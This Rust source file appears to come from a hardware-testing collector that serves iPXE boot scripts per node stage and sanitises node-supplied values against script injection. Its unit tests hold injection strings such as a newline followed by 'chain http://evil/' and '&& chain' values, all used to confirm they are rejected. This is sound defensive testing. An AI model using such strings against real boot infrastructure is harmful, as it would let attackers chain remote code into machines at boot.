//! Network boot: the static `boot.ipxe` and the per-node script for the node's current stage
//! (memtest, linux, done, hold, local), rendered from editable templates in `DATA/ipxe/`.
//!
//! iPXE has no quoting: a value that reaches a script could end a line or chain a command.
//! So every node-supplied value is checked against a safe character set (or dropped) before
//! it is used anywhere, and scripts only ever contain those checked values, numbers, tokens
//! the collector minted, and URLs it built.

use std::path::{Path, PathBuf};

use axum::extract::{Query, State};
use axum::http::HeaderMap;
use axum::response::{IntoResponse, Response};
use kiln_protocol::wire::NodeIdentity;
use minijinja::{Environment, context};
use serde::Deserialize;

use kiln_protocol::verdict::Verdict;

use crate::api::{ApiError, AppState};
use crate::lifecycle::{self, BootDecision, BootRequest, Script, SuiteFile};
use crate::tokens;

/// The built-in templates, written to `DATA/ipxe/` on first start and read from there after.
pub const TEMPLATES: &[(&str, &str)] = &[
    ("boot.ipxe", include_str!("../../../ipxe/boot.ipxe")),
    ("memtest.ipxe", include_str!("../../../ipxe/memtest.ipxe")),
    ("linux.ipxe", include_str!("../../../ipxe/linux.ipxe")),
    ("done.ipxe", include_str!("../../../ipxe/done.ipxe")),
    ("hold.ipxe", include_str!("../../../ipxe/hold.ipxe")),
    ("local.ipxe", include_str!("../../../ipxe/local.ipxe")),
];

/// Writes the built-in templates and suites that are missing from the data directory.
pub fn install_defaults(data: &Path) -> anyhow::Result<()> {
    let dir = data.join("ipxe");
    std::fs::create_dir_all(&dir)?;
    for (name, text) in TEMPLATES {
        let path = dir.join(name);
        if !path.exists() {
            std::fs::write(&path, text)?;
        }
    }
    let suites = data.join("suites");
    std::fs::create_dir_all(&suites)?;
    for (name, text) in crate::suites::SHIPPED {
        let path = suites.join(format!("{name}.yaml"));
        if !path.exists() {
            std::fs::write(&path, text)?;
        }
    }
    std::fs::create_dir_all(data.join("artifacts"))?;
    Ok(())
}

/// Keeps a node-supplied value only when every character is safe in an iPXE script line:
/// letters, digits, space and `._:()+,/-`, at most 64 characters. Anything else is dropped.
pub fn safe(value: Option<&str>) -> Option<String> {
    let v = value?;
    if v.chars().any(char::is_control) {
        return None;
    }
    let v = v.trim();
    let ok = !v.is_empty()
        && v.len() <= 64
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || " ._:()+,/-".contains(c));
    ok.then(|| v.to_owned())
}

/// What iPXE tells about a node.
#[derive(Debug, Default, Deserialize)]
pub struct IpxeQuery {
    /// `${mac:hexhyp}`: `52-54-00-12-34-56`.
    pub mac: Option<String>,
    /// `${uuid}`.
    pub uuid: Option<String>,
    /// `${serial}`.
    pub serial: Option<String>,
    /// `${manufacturer}`.
    pub manufacturer: Option<String>,
    /// `${product}`.
    pub product: Option<String>,
    /// `${platform}`: `pcbios` or `efi`.
    pub platform: Option<String>,
    /// `${buildarch}`.
    pub buildarch: Option<String>,
}

impl IpxeQuery {
    /// The node's identity, from the values that pass the checks.
    pub fn identity(&self) -> Result<NodeIdentity, ApiError> {
        let mac = self
            .mac
            .as_deref()
            .map(|m| m.replace('-', ":").to_lowercase())
            .filter(|m| kiln_protocol::wire::check_mac(m).is_ok());
        let uuid = safe(self.uuid.as_deref())
            .map(|u| u.to_lowercase())
            .filter(|u| u.len() == 36 && u.chars().all(|c| c.is_ascii_hexdigit() || c == '-'));
        // QEMU and many boards report placeholders rather than nothing: those name no node.
        let serial = safe(self.serial.as_deref());
        let identity = NodeIdentity {
            macs: mac.into_iter().collect(),
            uuid,
            serial,
        }
        .without_placeholders();
        identity
            .validate()
            .map_err(|e| ApiError::BadRequest(format!("cannot tell which node this is: {e}")))?;
        Ok(identity)
    }
}

/// The URL nodes reach the collector at: the configured `public_url`, else `http://` + the
/// request's Host header (checked: a host name or address and port, nothing else).
fn base_url(state: &AppState, headers: &HeaderMap) -> Result<String, ApiError> {
    if let Some(url) = &state.config.public_url {
        return Ok(url.trim_end_matches('/').to_owned());
    }
    let host = headers
        .get(axum::http::header::HOST)
        .and_then(|h| h.to_str().ok())
        .unwrap_or("");
    let ok = !host.is_empty()
        && host.len() <= 255
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ".:-[]".contains(c));
    if !ok {
        return Err(ApiError::BadRequest(format!(
            "Host header {host:?} is not a host name; set public_url in kiln.yaml"
        )));
    }
    Ok(format!("http://{host}"))
}

/// Renders a template from `DATA/ipxe/` (read without blocking the async worker).
pub async fn render(data: &Path, name: &str, ctx: minijinja::Value) -> Result<String, ApiError> {
    let path = data.join("ipxe").join(name);
    let text = tokio::fs::read_to_string(&path).await.map_err(|e| {
        ApiError::Internal(anyhow::anyhow!(
            "cannot read template {}: {e}",
            path.display()
        ))
    })?;
    let mut env = Environment::new();
    env.set_auto_escape_callback(|_| minijinja::AutoEscape::None);
    env.set_keep_trailing_newline(true);
    env.add_template(name, &text)
        .map_err(|e| ApiError::Internal(anyhow::anyhow!("template {}: {e:#}", path.display())))?;
    let template = env
        .get_template(name)
        .map_err(|e| ApiError::Internal(e.into()))?;
    template
        .render(ctx)
        .map_err(|e| ApiError::Internal(anyhow::anyhow!("rendering {}: {e:#}", path.display())))
}

fn script_response(text: String) -> Response {
    ([("content-type", "text/plain; charset=utf-8")], text).into_response()
}

/// `GET /boot.ipxe`.
pub async fn boot_ipxe(
    State(state): State<AppState>,
    headers: HeaderMap,
) -> Result<Response, ApiError> {
    let base = base_url(&state, &headers)?;
    Ok(script_response(
        render(&state.data, "boot.ipxe", context! { base }).await?,
    ))
}

/// `GET /ipxe?mac=…`: this node's script for its current stage. What the boot means for
/// the node's runs is the lifecycle's ([`lifecycle::boot`], one transaction); this only
/// renders the answer, and starts the console capture when memtest86+ is handed out.
pub async fn node_ipxe(
    State(state): State<AppState>,
    crate::api::Source(source): crate::api::Source,
    headers: HeaderMap,
    Query(q): Query<IpxeQuery>,
) -> Result<Response, ApiError> {
    let base = base_url(&state, &headers)?;
    let unknown_mode = state.config.unknown_nodes;
    // A fresh bootstrap token; it becomes the run's only if the Linux stage is handed out.
    let token = tokens::mint()?;
    let mut req = BootRequest {
        identity: q.identity()?,
        unknown_mode,
        default_suite: state.config.default_suite.clone(),
        suite: None,
        bootstrap_hash: tokens::hash(&token),
        heartbeat_secs: state.config.heartbeat_timeout.get().as_secs().max(1),
        image_digest: state.image_digest().await,
        artifacts: state.artifact_digests().await,
        max_unknown_nodes: state.config.max_unknown_nodes,
        source: source.clone(),
        bounds: state.config.run_bounds,
        attestation: state.config.attestation,
        runs_per_day: state.config.runs_per_node_per_day,
    };
    let source_text = source;
    let (node_id, serial, script) = loop {
        let asked = req.clone();
        let (decision, ended) = state.db.call(move |c| lifecycle::boot(c, &asked)).await?;
        state.captures.stop(&ended);
        match decision {
            BootDecision::NeedSuite(name) if req.suite.is_none() => {
                req.suite = Some(read_suite(&state.data, &name).await);
            }
            BootDecision::TooManyUnknown => {
                return Err(crate::api::too_many_unknown(state.config.max_unknown_nodes));
            }
            BootDecision::Conflict(why) => {
                tracing::warn!(source = ?source_text, "security: {why}");
                return Err(ApiError::Conflict(why));
            }
            BootDecision::NeedSuite(name) => {
                // The assignment changed between the two asks: say so rather than loop.
                return Err(ApiError::Conflict(format!(
                    "the node's suite changed to {name} while it booted; boot again"
                )));
            }
            BootDecision::Script {
                node_id,
                serial,
                script,
            } => break (node_id, serial, script),
        }
    };
    let serial = safe(serial.as_deref()).unwrap_or_else(|| "no serial".into());
    let text = match script {
        Script::Local => {
            render(
                &state.data,
                "local.ipxe",
                context! { base, node_id, serial },
            )
            .await?
        }
        Script::Hold(reason) => {
            render(
                &state.data,
                "hold.ipxe",
                context! { base, node_id, serial, reason },
            )
            .await?
        }
        Script::Done { run_id, verdict } => {
            done(&state, &base, node_id, &serial, run_id, verdict).await?
        }
        Script::Memtest { run_id, memtest } => {
            // Capture starts now, before memtest86+ is even fetched, so nothing is missed.
            if let Err(reason) =
                crate::memtest::stage::start(&stage_deps(&state), node_id, run_id, &memtest).await
            {
                let ended = state
                    .db
                    .call(move |c| lifecycle::memtest_unwatchable(c, run_id, &reason))
                    .await?;
                state.captures.stop(&ended);
                done(&state, &base, node_id, &serial, run_id, Some(Verdict::Fail)).await?
            } else {
                let passes = memtest.passes;
                let options = format!("reportmode={}", memtest.report_mode.name());
                render(
                    &state.data,
                    "memtest.ipxe",
                    context! { base, node_id, serial, run_id, passes, options },
                )
                .await?
            }
        }
        Script::Linux { run_id } => linux(&state, &base, node_id, &serial, run_id, &token).await?,
    };
    tracing::info!(
        node_id,
        platform = q
            .platform
            .as_deref()
            .and_then(|p| safe(Some(p)))
            .unwrap_or_default(),
        "served a boot script"
    );
    Ok(script_response(text))
}

/// The collectors a node's agent may talk to, this one first: then every other live one
/// sharing the database, so the agent goes on with the next when one dies. A URL that is not
/// plainly a host, port and path is left out (it goes into an iPXE script), and so is every
/// other collector when the database cannot say which are live.
async fn collectors_for(state: &AppState, base: &str) -> Vec<String> {
    use crate::store::leases;
    let me = state.collector_id.get().cloned();
    let listed = state
        .db
        .read(|c| {
            let now = leases::clock(c)?;
            Ok(leases::collectors(c, now)?)
        })
        .await;
    let plain = |url: &str| {
        (url.starts_with("http://") || url.starts_with("https://"))
            && url.len() <= 256
            && url
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ".:/-_[]".contains(c))
    };
    let mut urls = vec![base.to_owned()];
    match listed {
        Ok(listed) => urls.extend(
            listed
                .into_iter()
                .filter(|c| c.live && Some(&c.id) != me.as_ref() && c.url != base && plain(&c.url))
                .map(|c| c.url)
                .take(kiln_protocol::cmdline::MAX_COLLECTORS - 1),
        ),
        Err(err) => {
            tracing::warn!(error = %err, "the other collectors are not listed for the node: the database did not say")
        }
    }
    urls
}

/// The Linux stage's script: the RAM image with the run's bootstrap token. The node's console
/// is followed from now, and whether it is read is recorded before the answer (and its token)
/// leaves: from here the run passes only when that console shows its attestation.
async fn linux(
    state: &AppState,
    base: &str,
    node_id: i64,
    serial: &str,
    run_id: i64,
    token: &str,
) -> Result<String, ApiError> {
    if crate::memtest::stage::follow_linux(&stage_deps(state), node_id, run_id).await {
        state
            .db
            .call(move |c| lifecycle::attest::console_watched(c, run_id))
            .await?;
    }
    let cmdline = kiln_protocol::cmdline::BootArgs {
        url: collectors_for(state, base).await.join(","),
        run: run_id,
        token: token.to_owned(),
        node: node_id,
    }
    .render();
    render(
        &state.data,
        "linux.ipxe",
        context! { base, node_id, serial, run_id, cmdline },
    )
    .await
}

/// What the memtest stage and the console follower need from the state.
fn stage_deps(state: &AppState) -> crate::memtest::stage::Deps {
    crate::memtest::stage::Deps {
        db: state.db.clone(),
        config: state.config.clone(),
        captures: state.captures.clone(),
        me: state.collector_id.get().cloned().unwrap_or_default(),
    }
}

/// The verdict screen (or the wait screen of a run still open).
async fn done(
    state: &AppState,
    base: &str,
    node_id: i64,
    serial: &str,
    run_id: i64,
    verdict: Option<Verdict>,
) -> Result<String, ApiError> {
    // The technician at the node's screen sees why, not only the word.
    let why = match verdict {
        Some(v) if v != Verdict::Pass => state
            .db
            .read(move |c| crate::store::queries::verdict_why(c, run_id))
            .await?
            .map(|why| script_text(&why)),
        _ => None,
    };
    let verdict = verdict.map_or("pending", Verdict::name);
    render(
        &state.data,
        "done.ipxe",
        context! { base, node_id, serial, run_id, verdict, why, action => state.config.after_verify.name() },
    )
    .await
}

/// Text the collector wrote, made safe for an iPXE `echo`: every character outside [`safe`]'s
/// set becomes a space, and at most 200 characters are kept.
fn script_text(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || " ._:()+,/-".contains(c) {
                c
            } else {
                ' '
            }
        })
        .take(200)
        .collect()
}

/// Reads the suite a run is about to start with from `DATA/suites/NAME.yaml` (bounded, and
/// without blocking the async worker).
async fn read_suite(data: &Path, name: &str) -> SuiteFile {
    use tokio::io::AsyncReadExt;
    let path: PathBuf = data.join("suites").join(format!("{name}.yaml"));
    let read = async {
        let file = tokio::fs::File::open(&path).await?;
        let mut text = String::new();
        file.take(kiln_protocol::MAX_SUITE_BYTES as u64 + 1)
            .read_to_string(&mut text)
            .await?;
        Ok::<_, std::io::Error>(text)
    };
    let text = read
        .await
        .map_err(|e| format!("suite {name} cannot be read: {e}"));
    SuiteFile {
        name: name.to_owned(),
        text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_values_are_dropped() {
        assert_eq!(safe(Some("ABC-123.x")), Some("ABC-123.x".into()));
        assert_eq!(
            safe(Some("Standard PC (i440FX + PIIX, 1996)")),
            Some("Standard PC (i440FX + PIIX, 1996)".into())
        );
        // What the collector writes about a node keeps only the same characters.
        assert_eq!(
            script_text("security: from 10.0.0.9\n${x} && chain http://e/; ok"),
            "security: from 10.0.0.9   x     chain http://e/  ok"
        );
        assert_eq!(script_text(&"é".repeat(300)).len(), 200);
        for bad in [
            "x\nchain http://evil/",
            "${serial}",
            "a && chain http://e/",
            "a || reboot",
            "#comment",
            "x\r",
            "q\"uote",
            &"x".repeat(65),
        ] {
            assert_eq!(safe(Some(bad)), None, "{bad:?}");
        }
    }

    #[test]
    fn identities_come_from_checked_values_only() {
        let q = IpxeQuery {
            mac: Some("52-54-00-AB-CD-EF".into()),
            uuid: Some("6F1A0C4E-0000-4000-8000-000000000001".into()),
            serial: Some("SN1\nchain http://evil/".into()),
            ..Default::default()
        };
        let id = q.identity().unwrap();
        assert_eq!(id.macs, ["52:54:00:ab:cd:ef"]);
        assert_eq!(
            id.uuid.as_deref(),
            Some("6f1a0c4e-0000-4000-8000-000000000001")
        );
        assert_eq!(id.serial, None);
        assert!(
            IpxeQuery {
                mac: Some("zz".into()),
                ..Default::default()
            }
            .identity()
            .is_err()
        );
    }
}
